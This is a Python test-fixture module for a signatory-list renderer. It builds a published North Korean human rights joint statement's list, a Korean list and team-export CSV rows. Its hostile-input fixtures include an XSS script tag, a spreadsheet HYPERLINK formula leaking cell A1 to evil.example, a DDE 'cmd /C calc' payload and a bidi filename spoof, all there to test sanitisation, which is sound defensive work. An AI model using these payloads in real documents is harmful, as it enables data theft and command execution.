"""Signatory lists built by hand for the renderer tests (no database).

- `hrc58_list(**changes)`: the HRC58 joint statement's list as published: two individuals
  with notes, then eight organisations, some with acronyms; `HRC58_BLOCK` is the block
  exactly as it ends the published statement, `HRC58_BODY` a Markdown excerpt of its text
  (bold, italics, superscripts, nested and numbered lists, a link, a footnote).
- `korean_list()`: a small list in Korean.
- `hostile_list()`: one organisation per name in `HOSTILE_NAMES`, plus `HOSTILE_NOTE` on an
  individual; `CLEAN_NAMES` says what each name must look like once cleaned.
- `team_row(id, **changes)` / `team_rows(n)`: team-export rows (contacts, timestamps);
  `team_csv(rows)`: their team CSV, as the export writes it from batches of columns.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone
from itertools import islice
from operator import attrgetter
from typing import Any

from app.lists.data import Counts, Entry, Group, SignatoryList, TeamRow
from app.lists.renderers import csvs

AS_OF = date(2025, 3, 14)

HRC58_TITLE = (
    "Joint statement calling for the incorporation of the key contents of the 79th UN General "
    "Assembly’s resolution 79/181 on North Korean human rights adopted on December 17, 2024 in "
    "the 58th Human Rights Council’s draft North Korean human rights resolution"
)
HRC58_HEADING = "Signature organizations and individuals (as of March 14, 2025)"
HRC58_SUMMARY = "8 organisations and 2 individuals from 1 country"

# Copied from the end of hrc58-joint-statement.md: one entry per paragraph.
HRC58_BLOCK = """\
Signature organizations and individuals (as of March 14, 2025)

Kim Kyu Li and Kim Hyuk (elder sister and cousin of Kim Cheol-ok who was repatriated by China \
to North Korea on October 9, 2023)

Kim Jeong-sam (elder brother of missionary Kim Jeong-wook who has been held in detention in \
North Korea since 2013)

Citizens’ Alliance for North Korean Human Rights (NKHR)

Justice For North Korea

Korean War POW Family Association

Mulmangcho

No Chain

Stepping Stones

THINK

Transitional Justice Working Group (TJWG)"""

HRC58_BODY = """\
We call upon South Korea and other like-minded governments to make efforts to incorporate \
the key contents of the 79<sup>th</sup> UN General Assembly’s resolution 79/181 in the \
58<sup>th</sup> Human Rights Council’s resolution.[^1]

1. North Korea’s forced separation of abductees and their families (PP19)

- PP19 *Stressing again with grave concern* the urgency and importance of the issue of \
international abductions, **as a result of their forced separation**, the lack of any \
concrete or positive action
  - [see PP23 of GA resolution 79/181](https://undocs.org/A/RES/79/181)

#### 9. North Korea's forced abortions and infanticide (OP6)

10. Dialogue on and engagement with regard to the humanitarian and human rights situation

> Thank you.

[^1]: Human Rights Council Extranet, 58th session, <https://hrcmeetings.ohchr.org/>
"""


def _individual(name: str, note: str) -> Entry:
    return Entry(kind="individual", name=name, note=note, country="KR", country_name="South Korea")


def _organisation(name: str, acronym: str = "") -> Entry:
    return Entry(
        kind="organisation",
        name=name,
        acronym=acronym,
        country="KR",
        country_name="South Korea",
    )


HRC58_INDIVIDUALS = (
    _individual(
        "Kim Kyu Li and Kim Hyuk",
        "elder sister and cousin of Kim Cheol-ok who was repatriated by China to North Korea "
        "on October 9, 2023",
    ),
    _individual(
        "Kim Jeong-sam",
        "elder brother of missionary Kim Jeong-wook who has been held in detention in North "
        "Korea since 2013",
    ),
)
HRC58_ORGANISATIONS = (
    _organisation("Citizens’ Alliance for North Korean Human Rights", "NKHR"),
    _organisation("Justice For North Korea"),
    _organisation("Korean War POW Family Association"),
    _organisation("Mulmangcho"),
    _organisation("No Chain"),
    _organisation("Stepping Stones"),
    _organisation("THINK"),
    _organisation("Transitional Justice Working Group", "TJWG"),
)


def hrc58_list(**changes: Any) -> SignatoryList:
    """The HRC58 list, groups without headings (as published); `changes` replace fields."""
    model = SignatoryList(
        slug="hrc58-joint-statement",
        title=HRC58_TITLE,
        addressed_to="Member States of the UN Human Rights Council",
        body_markdown=HRC58_BODY,
        body_html="",
        language="en",
        version_number=3,
        as_of=AS_OF,
        as_of_text="as of March 14, 2025",
        summary=HRC58_SUMMARY,
        heading=HRC58_HEADING,
        groups=(
            Group(kind="individual", heading="", entries=HRC58_INDIVIDUALS),
            Group(kind="organisation", heading="", entries=HRC58_ORGANISATIONS),
        ),
        counts=Counts(organisations=8, individuals=2, countries=1),
    )
    return replace(model, **changes)


def korean_list() -> SignatoryList:
    entries = (
        Entry(kind="organisation", name="북한인권시민연합", acronym="NKHR", country="KR",
              country_name="대한민국"),
        Entry(kind="organisation", name="물망초", country="KR", country_name="대한민국"),
        Entry(kind="organisation", name="전환기정의워킹그룹", acronym="TJWG", country="KR",
              country_name="대한민국"),
        Entry(kind="individual", name="김정삼", note="김정욱 선교사의 형", country="KR",
              country_name="대한민국"),
    )  # fmt: skip
    return hrc58_list(
        slug="hrc58-ko",
        title="유엔 인권이사회 북한인권 결의안에 관한 공동성명",
        addressed_to="",
        language="ko",
        as_of_text="2025년 3월 14일 기준",
        summary="단체 3곳과 개인 1명 (1개국)",
        heading="서명 단체 및 개인 (2025년 3월 14일 기준)",
        groups=(Group(kind="all", heading="", entries=entries),),
        counts=Counts(organisations=3, individuals=1, countries=1),
    )


LONG_NAME = ("International Coalition of Very Long Organisation Names " * 6)[:300]

# What strangers type, and what each format must show of it (control characters removed).
HOSTILE_NAMES: dict[str, str] = {
    "script": "<script>alert('x')</script>",
    "hyperlink": '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1",
    "error": "#N/A",
    "markdown": "*x* _y_ [z](http://evil.example) 1. `c`",
    "controls": "Con\x00tr\x07ol\x1b \x7fchars\x85",
    "bidi": "evil\u202egnp.exe",
    "surrogate": "lone\ud800surrogate",
    "long": LONG_NAME,
    "rtl": "منظمة حقوق الإنسان",
    "hebrew": "ארגון זכויות אדם",
    "emoji": "Stepping Stones 🌱 👩‍👩‍👧",
    "korean": "북한인권시민연합",
    "multiline": 'Line one\nLine two, "quoted"',
}
CLEAN_NAMES: dict[str, str] = {
    **HOSTILE_NAMES,
    "controls": "Control chars",
    "bidi": "evilgnp.exe",
    "surrogate": "lonesurrogate",
}
HOSTILE_NOTE = "=cmd|' /C calc'!A0"


def hostile_list() -> SignatoryList:
    entries = tuple(Entry(kind="organisation", name=name) for name in HOSTILE_NAMES.values())
    person = Entry(kind="individual", name="Jane Doe", note=HOSTILE_NOTE)
    return hrc58_list(
        slug="hostile",
        title="=Title *with* <b>markup</b>\x00",
        groups=(
            Group(kind="organisation", heading="Organisations", entries=entries),
            Group(kind="individual", heading="Individuals", entries=(person,)),
        ),
        counts=Counts(organisations=len(entries), individuals=1, countries=0),
    )


SUBMITTED = datetime(2025, 3, 10, 18, 30, 15, 123456, tzinfo=timezone(timedelta(hours=9)))


def team_row(id: int = 1, **changes: Any) -> TeamRow:
    """A confirmed organisation signature; `changes` replace fields."""
    row = TeamRow(
        id=id,
        kind="organisation",
        status="approved",
        listing="named",
        public_line="Transitional Justice Working Group (TJWG)",
        name="Lee Younghwan",
        title="Director",
        note="",
        organisation="Transitional Justice Working Group",
        acronym="TJWG",
        website="https://tjwg.org",
        ecosoc_status="special",
        country="KR",
        email=f"person{id}@example.org",
        consent_privacy=True,
        opt_in_updates=False,
        version_confirmed=3,
        source="form",
        submitted_at=SUBMITTED,
        confirmed_at=datetime(2025, 3, 10, 10, 0, tzinfo=UTC),
        decided_at=None,
        withdrawn_at=None,
        flags="",
    )
    return replace(row, **changes) if changes else row


def team_rows(n: int) -> Iterator[TeamRow]:
    """`n` distinct rows, made one at a time."""
    for i in range(1, n + 1):
        yield team_row(i)


def team_csv(rows: Iterable[TeamRow], size: int = 256) -> Iterator[bytes]:
    """The team CSV of `rows`, streamed: `csvs.iter_team_csv_batches` of them in batches
    of columns, as `app.lists.exports.team.team_batches` gives the export its rows."""
    fields = attrgetter(*TeamRow.__dataclass_fields__)
    remaining = iter(rows)

    def batches() -> Iterator[list[Sequence[Any]]]:
        while batch := list(map(fields, islice(remaining, size))):
            yield list(zip(*batch, strict=True))

    return csvs.iter_team_csv_batches(batches())
